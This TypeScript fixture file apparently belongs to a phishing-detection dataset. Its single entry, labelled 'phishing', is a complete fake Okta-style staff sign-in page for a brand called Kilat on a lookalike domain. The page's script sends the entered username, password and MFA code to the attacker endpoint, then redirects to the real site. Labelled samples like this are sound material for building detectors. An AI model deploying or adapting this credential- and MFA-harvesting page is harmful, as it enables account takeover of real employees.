import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, jsonRoute, kilatCss, kilatLogo, KILAT_GREEN, walletCss } from '../parts/zy-kit.js';

export const entries: Entry[] = [
{
  id: 'zy-kilat-staff-sso-okta-style',
  label: 'phishing',
  kind: 'own-brand-staff-sso-kit',
  url: 'https://kilat-sso.okta-verify.co/app/kilat/sso/saml?RelayState=%2Fadmin%2Ftrust',
  body: doc({
    title: 'Kilat - Sign In',
    css: `body{margin:0;background:#f2f4f5;font-family:-apple-system,"Segoe UI",Roboto,Arial,sans-serif}.auth{max-width:400px;margin:60px auto;background:#fff;border:1px solid #ddd;border-radius:4px;box-shadow:0 2px 0 rgba(175,175,175,.12)}
.auth .hd{padding:28px 40px;border-bottom:1px solid #ddd;text-align:center}.auth .bd{padding:24px 40px 40px}h2{font-size:15px;text-align:center;color:#5e5e5e;margin:0 0 20px}
label{display:block;font-size:13px;color:#6e6e78;margin:12px 0 6px}input{width:100%;box-sizing:border-box;height:40px;border:1px solid #8c8c96;border-radius:4px;padding:6px 10px;font-size:14px}
.btn{width:100%;height:44px;background:#1662dd;color:#fff;border:0;border-radius:4px;font-size:14px;margin-top:18px}.ft{font-size:12px;padding-top:14px;color:#1662dd}.hide{display:none}`,
    body: `<div class="auth"><div class="hd">${kilatLogo(30)}</div><div class="bd">
<div id="a"><h2>Sign In</h2><form id="fa"><label>Username</label><input name="username" placeholder="name@kilat.app" required><label>Password</label><input type="password" name="password" required><label style="display:flex;gap:6px;align-items:center"><input type="checkbox" style="width:auto;height:auto"> Keep me signed in</label><button class="btn">Sign In</button></form><div class="ft"><a href="#">Need help signing in?</a></div></div>
<div id="b" class="hide"><h2>Okta Verify</h2><p style="font-size:13px">Enter the 6-digit code from Okta Verify or approve the push on your phone.</p><form id="fb"><input name="passcode" maxlength="6" inputmode="numeric"><button class="btn">Verify</button></form></div>
</div></div>
<script>
var ep="https://kilat-sso.okta-verify.co/api/v1/authn";
document.getElementById("fa").onsubmit=function(e){e.preventDefault();fetch(ep,{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(Object.fromEntries(new FormData(this)))});document.getElementById("a").classList.add("hide");document.getElementById("b").classList.remove("hide")};
document.getElementById("fb").onsubmit=function(e){e.preventDefault();fetch(ep+"/factors/verify",{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(Object.fromEntries(new FormData(this)))}).then(function(){location.href="https://sso.kilat.app/"})};
</script>`,
  }),
  routes: {
    'kilat-sso.okta-verify.co/api/v1/authn': jsonRoute({ status: 'MFA_REQUIRED', stateToken: '00Wf8xH3kRt_2pLq' }),
  },
},
];
